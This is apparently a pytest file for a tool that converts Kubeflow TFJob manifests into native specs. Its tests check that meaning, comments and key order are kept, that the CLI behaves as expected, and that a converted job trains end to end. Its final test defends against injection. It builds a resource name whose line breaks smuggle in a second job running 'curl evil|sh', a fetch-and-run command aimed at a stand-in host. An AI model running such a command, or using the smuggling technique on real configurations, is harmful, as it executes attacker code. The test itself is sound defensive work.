"""``tfdeclare convert``: Kubeflow manifests become native specs that mean the same (the same
spec hash as reading the manifest directly), keep every comment and the key order, and — a
real TensorFlow run — a converted manifest applies and trains on the local backend."""

from __future__ import annotations

import json
import re
import shutil
import textwrap
import time
from pathlib import Path

import pytest
import yaml

from tests.conftest import REPO, cli
from tfdeclare.core.spec.loader import load_file
from tfdeclare.shell.convert import convert_text

EXAMPLES = Path(__file__).parent / "kubeflow"


# The comments that stand in a part not carried over (listed atop the converted file): they go
# with it.
DROPPED_COMMENTS = {"v1-dist-mnist-exithandler": ["# $TFJOB_RESULT: Succeeded or Failed"]}  # in onExit


@pytest.mark.parametrize("path", sorted(EXAMPLES.glob("*.yaml")), ids=lambda p: p.stem)
def test_a_converted_public_example_means_the_same_and_keeps_its_comments(path: Path) -> None:
    source = path.read_text()
    converted = convert_text(source)
    assert converted.kubeflow_documents == 1
    (direct,) = load_file(str(path), source.encode()).jobs
    result = load_file("converted.yaml", converted.text.encode())
    assert not any(d.is_error for d in result.diagnostics), [d.format() for d in result.diagnostics]
    assert list(result.diagnostics) == [], "the converted form is native: no note, no warning"
    (native,) = result.jobs
    assert native.spec_hash == direct.spec_hash
    comments = [line.strip() for line in source.splitlines() if line.strip().startswith("#")]
    dropped = DROPPED_COMMENTS.get(path.stem, [])
    for comment in comments:
        assert (comment in converted.text) == (comment not in dropped), comment


MANIFEST = """\
    # Our nightly ResNet run.
    apiVersion: kubeflow.org/v1
    kind: TFJob
    metadata:
      name: resnet  # the status file is status/resnet.yaml
      labels: {zeta: z, alpha: a}
    spec:
      tfReplicaSpecs:
        # Workers first in this file, and so in the converted file.
        Worker:
          replicas: 2
          restartPolicy: OnFailure
          template:
            spec:
              containers:
                - name: tensorflow  # Kubeflow watches this one
                  image: tf:2  # pinned
                  command:
                    - python
                    - train.py  # the entry point
                  env:
                    # learning rate schedule
                    - {name: LR, value: "0.1"}
                    - {name: BATCH, value: "64"}  # per worker
        PS:
          replicas: 1
          restartPolicy: Always
          template:
            spec:
              containers:
                - {name: tensorflow, image: "tf:2", command: [python, train.py]}
    """


def test_comments_follow_their_fields_and_key_order_is_kept() -> None:
    out = convert_text(textwrap.dedent(MANIFEST)).text
    assert out.startswith("# Converted from a Kubeflow kubeflow.org/v1 TFJob by `tfdeclare convert`.\n")
    assert "# Our nightly ResNet run.\napiVersion: tfdeclare/v1\n" in out
    assert "  name: resnet  # the status file is status/resnet.yaml\n" in out
    assert "  labels:\n    zeta: z\n    alpha: a\n" in out, "the manifest's key order"
    assert "  image: tf:2  # pinned\n" in out
    assert "    - train.py  # the entry point\n" in out
    assert "  # Workers first in this file" in out
    assert "# Kubeflow watches this one" in out
    assert "# learning rate schedule" in out and 'BATCH: "64"  # per worker' in out
    assert out.index("LR:") < out.index("BATCH:")
    spec = yaml.safe_load(out)["spec"]
    assert list(spec["replicas"]) == ["worker", "ps"]
    assert spec["replicas"] == {
        "ps": {"count": 1, "restartPolicy": "Always"},
        "worker": {"count": 2, "restartPolicy": "OnFailure", "env": {"LR": "0.1", "BATCH": "64"}},
    }


def test_comments_between_roles_and_after_the_last_field_are_kept() -> None:
    """A comment line with no field after it in its mapping (the end of a role, of ``spec``, of
    the file) lies in ruamel's end slot, not beside an entry: it is kept too, the last ones at
    the end of the converted document in their order."""
    source = textwrap.dedent(MANIFEST).replace("    PS:\n", "    # between the roles\n    PS:\n")
    source += "      # the end of the PS role\n  # the end of spec\n# the end of the file\n"
    out = convert_text(source).text
    for comment in (line.strip() for line in source.splitlines() if line.strip().startswith("#")):
        assert comment in out, comment
    assert out.index("# between the roles") < out.index("  ps:")
    assert out.endswith("# the end of the PS role\n# the end of spec\n# the end of the file\n")
    (direct,) = load_file("a.yaml", source.encode()).jobs
    (native,) = load_file("converted.yaml", out.encode()).jobs
    assert native.spec_hash == direct.spec_hash


def test_cli_prints_by_default_writes_in_place_with_write_and_refuses_errors(tmp_path: Path) -> None:
    manifest = tmp_path / "tfjob.yaml"
    manifest.write_text(textwrap.dedent(MANIFEST))
    native = tmp_path / "native.yaml"
    native.write_text(
        "apiVersion: tfdeclare/v1\nkind: TFJob\nmetadata: {name: n}\nspec: {command: [t], replicas: {worker: {}}}\n"
    )
    before = native.read_text()
    shown = cli("convert", str(manifest), cwd=tmp_path)
    assert shown.returncode == 0 and "apiVersion: tfdeclare/v1" in shown.stdout, shown.stderr
    assert manifest.read_text() == textwrap.dedent(MANIFEST), "stdout only, unless --write"
    written = cli("convert", "--write", str(manifest), str(native), cwd=tmp_path)
    assert written.returncode == 0 and written.stdout == "", written.stderr
    assert manifest.read_text() == shown.stdout and native.read_text() == before
    assert cli("validate", "--backend", "mesos", str(manifest), cwd=tmp_path).stderr == ""
    broken = tmp_path / "broken.yaml"
    broken.write_text(textwrap.dedent(MANIFEST).replace("PS:", "Launcher:"))
    refused = cli("convert", "--write", str(broken), cwd=tmp_path)
    assert (
        refused.returncode == 1 and f"{broken}:25:5: error: unknown replica type 'Launcher'" in refused.stderr
    )
    assert "Launcher" in broken.read_text() and "Traceback" not in refused.stderr


TRAINING = """\
    # A Kubeflow TFJob as people write them, running our own MWMS example script (no image:
    # the local backend runs processes) on two workers.
    apiVersion: kubeflow.org/v1
    kind: TFJob
    metadata:
      name: kf-mwms
      namespace: ml
    spec:
      successPolicy: AllWorkers  # both workers print their final weights
      runPolicy:
        backoffLimit: 2
        ttlSecondsAfterFinished: 3
      tfReplicaSpecs:
        Worker:
          replicas: 2
          restartPolicy: OnFailure
          template:
            spec:
              containers:
                - name: tensorflow
                  command: [python, mwms_train.py]
                  env:
                    - {name: TF_ENABLE_ONEDNN_OPTS, value: "0"}
                    - {name: PYTHONUNBUFFERED, value: "1"}
                  resources:
                    requests: {cpu: 200m, memory: 1Gi}
    """


@pytest.mark.tf
@pytest.mark.e2e
def test_a_converted_manifest_trains_on_the_local_backend_and_is_cleaned_up_after_its_ttl(
    tmp_path: Path,
) -> None:
    (tmp_path / "specs").mkdir()
    shutil.copy(REPO / "specs" / "mwms_train.py", tmp_path / "specs")
    spec = tmp_path / "specs" / "kf-mwms.yaml"
    spec.write_text(textwrap.dedent(TRAINING))
    converted = cli("convert", "--write", str(spec), cwd=tmp_path)
    assert converted.returncode == 0, converted.stderr
    assert "namespace has no equivalent" in converted.stderr and "# both workers print" in spec.read_text()
    applied = cli("apply", "specs", "--wait", "--timeout", "400", cwd=tmp_path, timeout=450)
    assert applied.returncode == 0, applied.stdout + applied.stderr
    status = yaml.safe_load((tmp_path / "status" / "kf-mwms.yaml").read_text())
    assert status["phase"] == "Succeeded" and status["cleanupTime"] is None
    logs = [cli("logs", "kf-mwms", "--task", f"worker:{i}", cwd=tmp_path).stdout for i in (0, 1)]
    hashes = [re.findall(r"^FINAL_WEIGHTS_SHA256 ([0-9a-f]{64})$", text, re.M) for text in logs]
    assert hashes[0] and hashes[0] == hashes[1], "both workers trained to the same weights"

    finished = time.time()
    time.sleep(max(0.0, 3.5 - (time.time() - finished)))  # the TTL is a wall-clock rule
    assert cli("apply", "specs", cwd=tmp_path).returncode == 0  # one pass: the TTL ran out
    status = yaml.safe_load((tmp_path / "status" / "kf-mwms.yaml").read_text())
    assert status["phase"] == "Succeeded" and status["cleanupTime"] is not None
    gone = cli("logs", "kf-mwms", "--task", "worker:0", cwd=tmp_path)
    assert "FINAL_WEIGHTS_SHA256" not in gone.stdout, "its logs were deleted with its tasks"


# A warning of the header quotes the manifest (an unknown resource's name): a break that YAML
# reads, and a line of ours does not split on, would end its comment and start a document.
KUBEFLOW = """\
apiVersion: kubeflow.org/v1
kind: TFJob
metadata: {{name: kf4}}
spec:
  tfReplicaSpecs:
    Worker:
      replicas: 1
      template:
        spec:
          containers:
            - name: tensorflow
              image: registry.example.com/tf:1
              command: [python3, -c, "print(1)"]
              resources:
                requests: {{cpu: 1, memory: 1Gi}}
                limits: {{{key}: 1}}
"""
INJECTED = (
    "x{b}---{b}apiVersion: tfdeclare/v1{b}kind: TFJob{b}metadata: {{name: injected}}{b}"
    "spec: {{command: [sh, -c, 'curl evil|sh'], replicas: {{worker: {{count: 1}}}}}}{b}---{b}#"
)


@pytest.mark.parametrize("brk", ["\r", "\x85", "\u2028", "\u2029"], ids=["cr", "nel", "ls", "ps"])
def test_convert_writes_no_job_a_warning_quotes(brk: str) -> None:
    source = KUBEFLOW.format(key=json.dumps(INJECTED.format(b=brk)))
    (direct,) = load_file("kf4.yaml", source.encode()).jobs
    converted = convert_text(source)
    assert re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", converted.text) is None
    result = load_file("converted.yaml", converted.text.encode())
    assert [job.name for job in result.jobs] == ["kf4"], [d.format() for d in result.diagnostics]
    assert result.jobs[0].spec_hash == direct.spec_hash
    assert len(list(yaml.safe_load_all(converted.text))) == 1
